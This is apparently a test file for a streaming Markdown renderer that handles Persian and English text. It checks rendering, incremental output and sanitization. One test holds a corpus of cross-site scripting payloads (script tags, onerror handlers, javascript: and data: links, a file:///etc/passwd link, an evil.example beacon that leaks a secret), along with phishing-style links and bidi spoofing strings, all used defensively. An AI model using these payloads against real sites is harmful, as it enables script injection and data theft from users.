import fc from "fast-check"
import { expect, test } from "vitest"
import { createMarkdownWriter } from "../../src/markdown/incremental.ts"

const mark = (n: number) => {
  const node = document.createElement("button")
  node.textContent = String(n)
  return node
}

function draw(...pieces: string[]): HTMLElement {
  const box = document.createElement("div")
  const writer = createMarkdownWriter(box, mark)
  let text = ""
  for (const piece of pieces) {
    text += piece
    writer.write(text)
  }
  writer.end(text)
  return box
}

const html = (...pieces: string[]) => draw(...pieces).innerHTML

test("paragraphs, emphasis, code and headings become elements with their own direction", () => {
  expect(html("# عنوان\n\nمتن **مهم** و *کج* با `code` و ~~خط~~.")).toBe(
    '<h3 dir="auto">عنوان</h3><p dir="auto">متن <strong>مهم</strong> و <em>کج</em> با <code dir="ltr">code</code> و <s>خط</s>.</p>',
  )
})

test("lists nest, keep their first number in any digits, and every item has its own direction", () => {
  expect(html("۳. یک\n۴. two\n   - سه\n\nپایان")).toBe(
    '<ol start="3"><li dir="auto">یک</li><li dir="auto">two<ul><li dir="auto">سه</li></ul></li></ol><p dir="auto">پایان</p>',
  )
})

test("a table, a quotation, a fence and a rule become what they are", () => {
  expect(html("| ماده | n |\n|---|---|\n| ۶۴ | **x** |")).toContain('<th dir="auto">ماده</th>')
  expect(html("> سخن\n> دیگر")).toBe('<blockquote dir="rtl"><p dir="auto">سخن\nدیگر</p></blockquote>')
  expect(html("```js\n<b>*x*</b>\n```\nend")).toBe(
    '<pre tabindex="0" dir="ltr"><code>&lt;b&gt;*x*&lt;/b&gt;</code></pre><p dir="auto">end</p>',
  )
  expect(html("a\n\n---\n\nb")).toContain("<hr>")
})

test("marks stay beside the word before them, and the full stop after them too", () => {
  expect(html("حق شماست.[1][2] دوم [1, 3].")).toBe(
    '<p dir="auto">حق <span class="keep">شماست.<button>1</button><button>2</button></span> <span class="keep">دوم <button>1</button><button>3</button>.</span></p>',
  )
})

test("the sign of a block that has only begun is not shown as words, and is when it turns out to be some", () => {
  for (const sign of ["-", "*", "•", "3.", "##", ">"]) {
    const box = document.createElement("div")
    const writer = createMarkdownWriter(box, mark)
    writer.write(`- یک\n${sign}`)
    expect(box.textContent, sign).toBe("یک")
    writer.write(`- یک\n${sign} دو`)
    expect(box.textContent, sign).toMatch(/^یک\s*دو$/)
    writer.write("")
    writer.write(`یک\n\n${sign}`)
    expect(box.textContent, sign).toBe("یک")
    writer.end(`یک\n\n${sign}`)
    expect(box.textContent?.endsWith(sign) || sign === ">", sign).toBe(true)
  }
})

test("what is still open at the end of a growing text is shown as if closed, and a half mark or link is held back", () => {
  const box = document.createElement("div")
  const writer = createMarkdownWriter(box, mark)
  const shown = (text: string) => {
    writer.write(text)
    return box.innerHTML
  }
  expect(shown("یک **دو")).toBe('<p dir="auto">یک <strong>دو</strong></p>')
  expect(shown("یک **دو** سه [")).toBe('<p dir="auto">یک <strong>دو</strong> سه </p>')
  expect(shown("یک **دو** سه [متن](https://exa")).toBe('<p dir="auto">یک <strong>دو</strong> سه </p>')
  writer.end("یک **دو** سه [متن")
  expect(box.textContent).toBe("یک دو سه [متن")
})

test("delimiters that are no emphasis stay as they were written", () => {
  expect(draw("2 * 3 * 4 و snake_case_name و **باز").textContent).toBe("2 * 3 * 4 و snake_case_name و **باز")
})

const words = fc.constantFrom(
  "متن ",
  "word ",
  "**",
  "*",
  "`",
  "\n",
  "\n\n",
  "- ",
  "1. ",
  "# ",
  "> ",
  "| a | b |\n",
  "|---|---|\n",
  "```\n",
  "[1]",
  "[x](https://a.example)",
  "![i](https://b.example/p.png)",
  "  ",
  "<b>",
  "https://c.example ",
  "~~",
  "_",
  "\\*",
  "---\n",
)

test("however a text is cut into pieces, the nodes in the end are those of the text at once", () => {
  fc.assert(
    fc.property(fc.array(words, { maxLength: 30 }), fc.array(fc.nat(12), { maxLength: 40 }), (parts, cuts) => {
      const text = parts.join("")
      const pieces: string[] = []
      let at = 0
      for (const cut of cuts) {
        pieces.push(text.slice(at, at + cut))
        at += cut
      }
      pieces.push(text.slice(at))
      expect(html(...pieces)).toBe(html(text))
    }),
    {
      numRuns: 2000,
      examples: [
        [
          ["| a | b |\n", "| a | b |\n", "- ", "متن "],
          [7, 7, 7],
        ],
      ],
    },
  )
})

test("whatever is written, there is no element or address that is not on the list", () => {
  const elements =
    /^(P|H[3-6]|UL|OL|LI|STRONG|EM|S|CODE|PRE|BLOCKQUOTE|HR|BR|A|BDI|SPAN|BUTTON|DIV|TABLE|TBODY|TR|TD|TH)$/
  fc.assert(
    fc.property(fc.array(fc.oneof(words, fc.string({ unit: "binary", maxLength: 8 })), { maxLength: 40 }), (parts) => {
      for (const element of draw(parts.join("")).querySelectorAll("*")) {
        expect(element.tagName).toMatch(elements)
        const address = element.getAttribute("href")
        if (address !== null) expect(new URL(address).protocol).toMatch(/^(https?|mailto|tel):$/)
      }
    }),
    { numRuns: 500 },
  )
})

const attacks = [
  '<img src=x onerror="window.hit=1">',
  "<script>window.hit=1</script>",
  "<svg/onload=window.hit=1>",
  '<iframe srcdoc="<script>parent.hit=1</script>"></iframe>',
  "<style>*{display:none}</style>",
  "<details open ontoggle=window.hit=1>x</details>",
  '<form action="https://evil.example"><input name=q></form>',
  "[x](javascript:window.hit=1)",
  "[x](JaVaScRiPt:window.hit=1)",
  "[x](java\tscript:window.hit=1)",
  "[x]( javascript:window.hit=1)",
  "[x](data:text/html,<script>window.hit=1</script>)",
  "[x](vbscript:msgbox(1))",
  "[x](file:///etc/passwd)",
  "[x](//evil.example)",
  '[x](https://evil.example"onmouseover=window.hit=1)',
  "![x](javascript:window.hit=1)",
  "![beacon](https://evil.example/pixel.png?q=secret)",
  "[![x](https://evil.example/a.png)](javascript:window.hit=1)",
  "<https://evil.example/<script>>",
  "`<img src=x onerror=window.hit=1>`",
  "[a]: javascript:window.hit=1\n\n[a]",
  "**<b onclick=window.hit=1>**",
  "| <img src=x onerror=window.hit=1> |\n|---|\n| [x](javascript:1) |",
]

test("nothing in the corpus of attacks runs, loads or becomes an element", async () => {
  const seen = new PerformanceObserver(() => {})
  seen.observe({ type: "resource" })
  const before = performance.getEntriesByType("resource").length
  const box = draw(...attacks.map((attack) => `${attack}\n\n`))
  document.body.append(box)
  for (const link of box.querySelectorAll("a")) link.dispatchEvent(new MouseEvent("mouseover", { bubbles: true }))
  await new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 50)))
  expect("hit" in window).toBe(false)
  expect(box.querySelectorAll("img, script, svg, iframe, style, form, input, details, link, object")).toHaveLength(0)
  expect([...box.querySelectorAll("a")].map((link) => link.protocol).filter((name) => name !== "https:")).toEqual([])
  expect(
    [...box.querySelectorAll("*")].flatMap((element) => element.getAttributeNames()).filter((n) => n.startsWith("on")),
  ).toEqual([])
  const after = performance.getEntriesByType("resource").slice(before)
  expect(after.filter(({ name }) => name.includes("evil"))).toEqual([])
  seen.disconnect()
  box.remove()
})

test("a link whose words name another place shows where it really leads", () => {
  expect(draw("[https://bank.example](https://evil.example/login)").textContent).toBe(
    "https://bank.example (evil.example)",
  )
  expect(draw("[bank](https://evil.example/?bank.example)").textContent).toBe("bank (evil.example)")
})

test("an image is a link at most", () => {
  expect(html("![نقشه](https://a.example/m.png)")).toContain('href="https://a.example/m.png"')
  expect(html("![نقشه](https://a.example/m.png)")).not.toContain("<img")
})

test("bidi overrides and isolates are dropped, joiners are kept", () => {
  expect(draw("قانون\u202egnp.exe\u202c می\u200cشود\u2067x\u2069").textContent).toBe("قانونgnp.exe می\u200cشودx")
})

test("a line of a megabyte is drawn in pieces and in time", () => {
  const begun = performance.now()
  const box = draw("کلمه ".repeat(200_000))
  expect(box.textContent?.length).toBeGreaterThan(900_000)
  expect(performance.now() - begun).toBeLessThan(2000)
})

test.each([
  ["[https://bank.ir/login?to=evil.example](https://evil.example/)", "(evil.example)"],
  ["[bank.ir evil.example](https://evil.example/)", "(evil.example)"],
  ["[evil.example](https://evil.example/a)", null],
  ["[https://evil.example/b](https://evil.example/a)", null],
])("the host that %s leads to is shown: %s", (source, host) => {
  expect(draw(source).querySelector("a .host")?.textContent ?? null).toBe(host)
})

test("an address with a user, read as another host than it leads to, is no link", () => {
  for (const source of ["https://bank.ir@evil.example/", "[bank.ir](https://bank.ir:443@evil.example)"])
    expect(draw(source).querySelector("a")).toBeNull()
})

test("hostile repetition is drawn in time", () => {
  for (const piece of ["[", "![", "*", "**a", "`", "[a](", "> ", "- ", "|", "<", "((", "[1", "_a"]) {
    const begun = performance.now()
    draw(piece.repeat(20_000))
    expect(performance.now() - begun, piece).toBeLessThan(1500)
  }
})
